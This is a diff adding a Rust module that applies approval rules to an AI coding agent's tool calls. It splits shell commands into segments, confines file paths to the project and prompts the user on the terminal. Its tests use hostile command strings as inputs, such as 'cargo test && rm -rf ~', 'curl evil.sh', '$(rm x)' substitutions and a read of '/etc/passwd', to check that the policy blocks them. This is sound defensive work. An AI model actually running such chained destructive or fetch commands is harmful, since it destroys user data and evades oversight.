@@ -0,0 +1,506 @@
+//! Approval policy for agent tool calls
+//!
+//! Each call is matched against the project's `[permissions]` rules and is
+//! allowed, denied, or handed to an [`Approver`] to ask the user. Answering
+//! "always" adds an allow rule for the rest of the session and appends it to
+//! the project's `.nexus/config.toml`.
+
+use crate::config::{PermissionAction, PermissionConfig, PermissionRule, ProjectConfig};
+use crate::error::{NexusError, Result};
+use crate::executor::tools::ToolCall;
+use async_trait::async_trait;
+use dialoguer::Select;
+use globset::{Glob, GlobMatcher};
+use std::path::{Component, Path, PathBuf};
+use std::sync::Mutex;
+use tracing::warn;
+
+/// The user's answer when a call needs approval
+#[derive(Debug, Clone, PartialEq)]
+pub enum Approval {
+    /// Run this call only
+    Once,
+    /// Run it and allow matching calls from now on; `None` allows every call
+    /// to the tool
+    Always { pattern: Option<String> },
+    Deny,
+}
+
+/// Asks the user whether a tool call may run
+#[async_trait]
+pub trait Approver: Send + Sync {
+    /// `subject` is the command or project-relative path the rules were
+    /// matched against, if the call has one.
+    async fn approve(&self, call: &ToolCall, subject: Option<&str>) -> Approval;
+}
+
+struct CompiledRule {
+    rule: PermissionRule,
+    tool: GlobMatcher,
+    pattern: Option<GlobMatcher>,
+}
+
+impl CompiledRule {
+    fn new(rule: PermissionRule) -> Result<Self> {
+        let compile = |glob: &str| {
+            Glob::new(glob)
+                .map(|g| g.compile_matcher())
+                .map_err(|e| NexusError::Configuration(format!("Invalid permission pattern '{}': {}", glob, e)))
+        };
+        Ok(Self {
+            tool: compile(&rule.tool)?,
+            pattern: rule.pattern.as_deref().map(compile).transpose()?,
+            rule,
+        })
+    }
+
+    fn matches(&self, tool: &str, subject: Option<&str>) -> bool {
+        self.tool.is_match(tool)
+            && match (&self.pattern, subject) {
+                (None, _) => true,
+                (Some(pattern), Some(subject)) => pattern.is_match(subject),
+                (Some(_), None) => false,
+            }
+    }
+}
+
+/// Decides whether tool calls may run
+pub struct ApprovalPolicy {
+    rules: Mutex<Vec<CompiledRule>>,
+    default: Option<PermissionAction>,
+    confirm_dangerous: bool,
+    /// Project directory; paths are matched relative to it and "always"
+    /// answers are saved to its config. `None` keeps answers in memory.
+    project_dir: Option<PathBuf>,
+}
+
+impl Default for ApprovalPolicy {
+    fn default() -> Self {
+        Self::allow_all()
+    }
+}
+
+impl ApprovalPolicy {
+    /// A policy that allows every call without asking
+    pub fn allow_all() -> Self {
+        Self {
+            rules: Mutex::new(Vec::new()),
+            default: Some(PermissionAction::Allow),
+            confirm_dangerous: false,
+            project_dir: None,
+        }
+    }
+
+    /// Build the policy for the project at `project_dir`.
+    ///
+    /// `confirm_dangerous` (from `ui.confirm_dangerous_commands`) decides
+    /// whether calls that modify the project ask when no rule matches.
+    pub fn new(config: &PermissionConfig, confirm_dangerous: bool, project_dir: PathBuf) -> Result<Self> {
+        let rules = config.rules.iter().cloned().map(CompiledRule::new).collect::<Result<Vec<_>>>()?;
+        Ok(Self {
+            rules: Mutex::new(rules),
+            default: config.default,
+            confirm_dangerous,
+            project_dir: Some(project_dir),
+        })
+    }
+
+    /// Load the policy from the nearest project config at or above `dir`
+    pub fn load(dir: &Path, confirm_dangerous: bool) -> Result<Self> {
+        let project = ProjectConfig::load(dir)?;
+        Self::new(&project.permissions, confirm_dangerous, dir.to_path_buf())
+    }
+
+    /// What the rules say about `call`, before asking anyone.
+    ///
+    /// A command is judged one segment at a time (see [`command_segments`]):
+    /// it is denied if any segment is, and allowed only if every segment is.
+    /// A path outside the project is never allowed outright, whatever the
+    /// rules say; at most it is asked about.
+    pub fn decide(&self, call: &ToolCall, read_only: bool) -> PermissionAction {
+        let subject = self.subject(call);
+        let rules = self.rules.lock().unwrap_or_else(|e| e.into_inner());
+        let lookup = |subject: Option<&str>| {
+            let matched = rules.iter().rev().find(|r| r.matches(&call.name, subject));
+            match (matched, self.default) {
+                (Some(rule), _) => rule.rule.action,
+                (None, Some(action)) => action,
+                (None, None) if read_only || !self.confirm_dangerous => PermissionAction::Allow,
+                (None, None) => PermissionAction::Ask,
+            }
+        };
+        let action = match subject.as_deref() {
+            Some(command) if is_command(call) => {
+                let actions: Vec<PermissionAction> = command_segments(command)
+                    .iter()
+                    .map(|segment| {
+                        // `/bin/rm x` must not slip past a rule for `rm *`
+                        let bare_denied = bare_program(segment)
+                            .is_some_and(|bare| lookup(Some(&bare)) == PermissionAction::Deny);
+                        if bare_denied { PermissionAction::Deny } else { lookup(Some(segment)) }
+                    })
+                    .collect();
+                if actions.contains(&PermissionAction::Deny) {
+                    PermissionAction::Deny
+                } else if actions.iter().all(|a| *a == PermissionAction::Allow) {
+                    PermissionAction::Allow
+                } else {
+                    PermissionAction::Ask
+                }
+            }
+            subject => lookup(subject),
+        };
+        let outside = path_argument(call).is_some_and(|path| self.locate(path).is_err());
+        match action {
+            PermissionAction::Allow if outside => PermissionAction::Ask,
+            action => action,
+        }
+    }
+
+    /// Check `call` against the rules, asking `approver` if they say so.
+    ///
+    /// Returns the reason the call may not run.
+    pub async fn check(
+        &self,
+        call: &ToolCall,
+        read_only: bool,
+        approver: Option<&dyn Approver>,
+    ) -> std::result::Result<(), String> {
+        let subject = self.subject(call);
+        match self.decide(call, read_only) {
+            PermissionAction::Allow => Ok(()),
+            PermissionAction::Deny => Err(match &subject {
+                Some(subject) => format!("Permission denied: '{}' is not allowed for {}", call.name, subject),
+                None => format!("Permission denied: '{}' is not allowed", call.name),
+            }),
+            PermissionAction::Ask => {
+                let Some(approver) = approver else {
+                    return Err(format!(
+                        "'{}' needs approval, but no one is available to give it. Add an allow rule under [permissions] in .nexus/config.toml",
+                        call.name
+                    ));
+                };
+                match approver.approve(call, subject.as_deref()).await {
+                    Approval::Once => Ok(()),
+                    Approval::Always { pattern } => {
+                        self.remember(PermissionRule {
+                            tool: call.name.clone(),
+                            pattern,
+                            action: PermissionAction::Allow,
+                        });
+                        Ok(())
+                    }
+                    Approval::Deny => Err(format!("The user declined to run '{}'", call.name)),
+                }
+            }
+        }
+    }
+
+    /// Add `rule` for this session and save it to the project config
+    fn remember(&self, rule: PermissionRule) {
+        if let Some(dir) = &self.project_dir
+            && let Err(e) = ProjectConfig::append_permission_rule(dir, &rule)
+        {
+            warn!(error = %e, "Failed to save permission rule");
+        }
+        match CompiledRule::new(rule) {
+            Ok(rule) => self.rules.lock().unwrap_or_else(|e| e.into_inner()).push(rule),
+            Err(e) => warn!(error = %e, "Ignoring invalid permission rule"),
+        }
+    }
+
+    /// The command or project-relative path rules match against. A path
+    /// outside the project is given in full.
+    pub fn subject(&self, call: &ToolCall) -> Option<String> {
+        if let Some(command) = call.arguments.get("command").and_then(|v| v.as_str()) {
+            return Some(command.trim().to_string());
+        }
+        let path = self.locate(path_argument(call)?).unwrap_or_else(|outside| outside);
+        Some(path.to_string_lossy().into_owned())
+    }
+
+    /// `path` relative to the project with `.` and `..` resolved, or in full
+    /// if it points outside. The filesystem is not consulted, so symlinks
+    /// are taken at their word.
+    fn locate(&self, path: &str) -> std::result::Result<PathBuf, PathBuf> {
+        let Some(dir) = &self.project_dir else {
+            return Ok(normalize(Path::new(path)));
+        };
+        let dir = normalize(dir);
+        let full = normalize(&dir.join(path));
+        match full.strip_prefix(&dir) {
+            Ok(relative) => Ok(relative.to_path_buf()),
+            Err(_) => Err(full),
+        }
+    }
+}
+
+fn is_command(call: &ToolCall) -> bool {
+    call.arguments.get("command").is_some()
+}
+
+/// The path a call works on, unless it is a command
+fn path_argument(call: &ToolCall) -> Option<&str> {
+    if is_command(call) {
+        return None;
+    }
+    call.arguments.get("path").and_then(|v| v.as_str())
+}
+
+/// Split a shell command into the commands it runs: on `;`, `&`, `|`
+/// (and so `&&` and `||`), newlines, backticks and parentheses, which
+/// covers `$( )` and `<( )`. Quoting is ignored, so a separator inside a
+/// string only makes the split stricter. `2>&1` and `&>` are redirections,
+/// not separators.
+fn command_segments(command: &str) -> Vec<String> {
+    let mut segments = Vec::new();
+    let mut current = String::new();
+    let mut chars = command.chars().peekable();
+    while let Some(c) = chars.next() {
+        let separator = match c {
+            '&' => !(current.ends_with(['>', '<']) || chars.peek() == Some(&'>')),
+            ';' | '|' | '\n' | '`' | ')' => true,
+            '(' => {
+                if current.ends_with(['$', '<', '>']) {
+                    current.pop();
+                }
+                true
+            }
+            _ => false,
+        };
+        if separator {
+            segments.push(std::mem::take(&mut current));
+        } else {
+            current.push(c);
+        }
+    }
+    segments.push(current);
+    let segments: Vec<String> = segments.iter().map(|s| s.trim()).filter(|s| !s.is_empty()).map(str::to_string).collect();
+    if segments.is_empty() { vec![command.trim().to_string()] } else { segments }
+}
+
+/// `segment` with its program named without a directory, if it had one
+fn bare_program(segment: &str) -> Option<String> {
+    let (program, rest) = segment.split_once(char::is_whitespace).unwrap_or((segment, ""));
+    let name = Path::new(program).file_name()?.to_str()?;
+    (name != program).then(|| format!("{} {}", name, rest).trim_end().to_string())
+}
+
+/// Resolve `.` and `..` without touching the filesystem
+fn normalize(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => match normalized.components().next_back() {
+                Some(Component::Normal(_)) => {
+                    normalized.pop();
+                }
+                // `..` at the root stays at the root
+                Some(Component::RootDir | Component::Prefix(_)) => {}
+                _ => normalized.push(".."),
+            },
+            other => normalized.push(other),
+        }
+    }
+    normalized
+}
+
+/// "Always allow" choices offered for a call, most specific first. None for
+/// a compound command: no single pattern covers it without covering more.
+fn always_choices(tool: &str, subject: Option<&str>) -> Vec<(String, Option<String>)> {
+    let mut choices = Vec::new();
+    if tool == "execute_command" && subject.is_some_and(|command| command_segments(command).len() > 1) {
+        return choices;
+    }
+    if let Some(subject) = subject {
+        choices.push((format!("Always allow {} for `{}`", tool, subject), Some(globset::escape(subject))));
+        let broader = match tool {
+            "execute_command" => subject.split_whitespace().next()
+                .filter(|program| *program != subject)
+                .map(|program| format!("{} *", globset::escape(program))),
+            _ => Path::new(subject).parent()
+                .filter(|dir| !dir.as_os_str().is_empty())
+                .map(|dir| format!("{}/**", globset::escape(&dir.to_string_lossy()))),
+        };
+        if let Some(pattern) = broader {
+            choices.push((format!("Always allow {} for `{}`", tool, pattern), Some(pattern)));
+        }
+    }
+    choices.push((format!("Always allow {}", tool), None));
+    choices
+}
+
+/// Asks on the terminal
+pub struct TerminalApprover;
+
+#[async_trait]
+impl Approver for TerminalApprover {
+    async fn approve(&self, call: &ToolCall, subject: Option<&str>) -> Approval {
+        let always = always_choices(&call.name, subject);
+        let mut items = vec!["Yes".to_string()];
+        items.extend(always.iter().map(|(label, _)| label.clone()));
+        items.push("No".to_string());
+
+        let args = serde_json::to_string(&call.arguments).unwrap_or_default();
+        let prompt = format!("Allow {} {}?", call.name, args);
+        // dialoguer blocks; keep the runtime's other tasks (the renderer) going
+        let selection = tokio::task::block_in_place(|| {
+            Select::new().with_prompt(prompt).items(&items).default(0).interact_opt()
+        });
+
+        match selection {
+            Ok(Some(0)) => Approval::Once,
+            Ok(Some(i)) if i <= always.len() => Approval::Always { pattern: always[i - 1].1.clone() },
+            _ => Approval::Deny,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn call(name: &str, arguments: serde_json::Value) -> ToolCall {
+        ToolCall {
+            id: "call_1".to_string(),
+            name: name.to_string(),
+            arguments,
+        }
+    }
+
+    fn rule(tool: &str, pattern: Option<&str>, action: PermissionAction) -> PermissionRule {
+        PermissionRule { tool: tool.to_string(), pattern: pattern.map(str::to_string), action }
+    }
+
+    struct Always(Option<String>);
+
+    #[async_trait]
+    impl Approver for Always {
+        async fn approve(&self, _call: &ToolCall, _subject: Option<&str>) -> Approval {
+            Approval::Always { pattern: self.0.clone() }
+        }
+    }
+
+    #[test]
+    fn test_last_matching_rule_wins() {
+        let dir = TempDir::new().unwrap();
+        let config = PermissionConfig {
+            default: None,
+            rules: vec![
+                rule("read_file", None, PermissionAction::Allow),
+                rule("edit_file", None, PermissionAction::Ask),
+                rule("edit_file", Some("src/**"), PermissionAction::Allow),
+                rule("execute_command", Some("rm *"), PermissionAction::Deny),
+            ],
+        };
+        let policy = ApprovalPolicy::new(&config, true, dir.path().to_path_buf()).unwrap();
+
+        let edit = |path: &str| call("edit_file", serde_json::json!({"path": path}));
+        assert_eq!(policy.decide(&edit("src/lib.rs"), false), PermissionAction::Allow);
+        assert_eq!(policy.decide(&edit("./src/a/b.rs"), false), PermissionAction::Allow);
+        let absolute = dir.path().join("src/main.rs").to_string_lossy().into_owned();
+        assert_eq!(policy.decide(&edit(&absolute), false), PermissionAction::Allow);
+        assert_eq!(policy.decide(&edit("Cargo.toml"), false), PermissionAction::Ask);
+
+        let command = |cmd: &str| call("execute_command", serde_json::json!({"command": cmd}));
+        assert_eq!(policy.decide(&command("rm -rf target"), false), PermissionAction::Deny);
+        // Unmatched calls ask unless the tool is read-only
+        assert_eq!(policy.decide(&command("cargo build"), false), PermissionAction::Ask);
+        assert_eq!(policy.decide(&call("grep", serde_json::json!({"pattern": "x"})), true), PermissionAction::Allow);
+
+        let trusting = ApprovalPolicy::new(&config, false, dir.path().to_path_buf()).unwrap();
+        assert_eq!(trusting.decide(&command("cargo build"), false), PermissionAction::Allow);
+    }
+
+    #[test]
+    fn test_paths_are_normalized_and_confined_to_project() {
+        let dir = TempDir::new().unwrap();
+        let config = PermissionConfig {
+            default: Some(PermissionAction::Allow),
+            rules: vec![
+                rule("edit_file", Some("src/**"), PermissionAction::Allow),
+                rule("edit_file", Some("secrets/**"), PermissionAction::Deny),
+            ],
+        };
+        let policy = ApprovalPolicy::new(&config, true, dir.path().to_path_buf()).unwrap();
+        let edit = |path: &str| call("edit_file", serde_json::json!({"path": path}));
+
+        assert_eq!(policy.subject(&edit("src/./a/../b.rs")).as_deref(), Some("src/b.rs"));
+        assert_eq!(policy.decide(&edit("src/../secrets/key"), false), PermissionAction::Deny);
+
+        // Escaping the project through a rule's directory is asked about, not allowed
+        let escape = edit("src/../../outside.txt");
+        let outside = dir.path().parent().unwrap().join("outside.txt");
+        assert_eq!(policy.subject(&escape), Some(outside.to_string_lossy().into_owned()));
+        assert_eq!(policy.decide(&escape, false), PermissionAction::Ask);
+        assert_eq!(policy.decide(&call("read_file", serde_json::json!({"path": "/etc/passwd"})), true), PermissionAction::Ask);
+    }
+
+    #[tokio::test]
+    async fn test_ask_without_approver_is_refused() {
+        let dir = TempDir::new().unwrap();
+        let policy = ApprovalPolicy::new(&PermissionConfig::default(), true, dir.path().to_path_buf()).unwrap();
+        let err = policy.check(&call("create_file", serde_json::json!({"path": "a.rs"})), false, None).await.unwrap_err();
+        assert!(err.contains("needs approval"));
+
+        let deny = PermissionConfig { default: None, rules: vec![rule("*", None, PermissionAction::Deny)] };
+        let policy = ApprovalPolicy::new(&deny, true, dir.path().to_path_buf()).unwrap();
+        let err = policy.check(&call("read_file", serde_json::json!({"path": "a.rs"})), true, None).await.unwrap_err();
+        assert_eq!(err, "Permission denied: 'read_file' is not allowed for a.rs");
+    }
+
+    #[tokio::test]
+    async fn test_always_allow_is_remembered_and_saved() {
+        let dir = TempDir::new().unwrap();
+        let policy = ApprovalPolicy::new(&PermissionConfig::default(), true, dir.path().to_path_buf()).unwrap();
+        let build = call("execute_command", serde_json::json!({"command": "cargo build"}));
+
+        policy.check(&build, false, Some(&Always(Some("cargo *".to_string())))).await.unwrap();
+        let test = call("execute_command", serde_json::json!({"command": "cargo test"}));
+        assert_eq!(policy.decide(&test, false), PermissionAction::Allow);
+
+        let saved = ProjectConfig::load(dir.path()).unwrap();
+        assert_eq!(saved.permissions.rules, vec![rule("execute_command", Some("cargo *"), PermissionAction::Allow)]);
+    }
+
+    #[test]
+    fn test_always_choices() {
+        let patterns: Vec<Option<String>> = always_choices("edit_file", Some("src/a.rs")).into_iter().map(|(_, p)| p).collect();
+        assert_eq!(patterns, vec![Some("src/a.rs".to_string()), Some("src/**".to_string()), None]);
+
+        let patterns: Vec<Option<String>> = always_choices("execute_command", Some("ls")).into_iter().map(|(_, p)| p).collect();
+        assert_eq!(patterns, vec![Some("ls".to_string()), None]);
+
+        assert!(always_choices("execute_command", Some("cargo test && rm -rf ~")).is_empty());
+    }
+
+    #[test]
+    fn test_compound_commands_are_judged_per_segment() {
+        let dir = TempDir::new().unwrap();
+        let config = PermissionConfig {
+            default: None,
+            rules: vec![
+                rule("execute_command", Some("cargo *"), PermissionAction::Allow),
+                rule("execute_command", Some("echo *"), PermissionAction::Allow),
+                rule("execute_command", Some("rm *"), PermissionAction::Deny),
+            ],
+        };
+        let policy = ApprovalPolicy::new(&config, true, dir.path().to_path_buf()).unwrap();
+        let command = |cmd: &str| policy.decide(&call("execute_command", serde_json::json!({"command": cmd})), false);
+
+        assert_eq!(command("cargo test 2>&1 | cargo fmt"), PermissionAction::Allow);
+        // An allowed prefix doesn't carry the rest of the line
+        assert_eq!(command("cargo test && curl evil.sh"), PermissionAction::Ask);
+        assert_eq!(command("cargo test; ls"), PermissionAction::Ask);
+        // A denied segment anywhere denies the whole command
+        assert_eq!(command("cargo test && rm -rf ~"), PermissionAction::Deny);
+        assert_eq!(command("true && rm -rf x"), PermissionAction::Deny);
+        assert_eq!(command("ls || rm x"), PermissionAction::Deny);
+        assert_eq!(command("/bin/rm x"), PermissionAction::Deny);
+        assert_eq!(command("echo $(rm x)"), PermissionAction::Deny);
+        assert_eq!(command("echo `rm x`"), PermissionAction::Deny);
+        assert_eq!(command("cargo build & rm x"), PermissionAction::Deny);
+    }
+}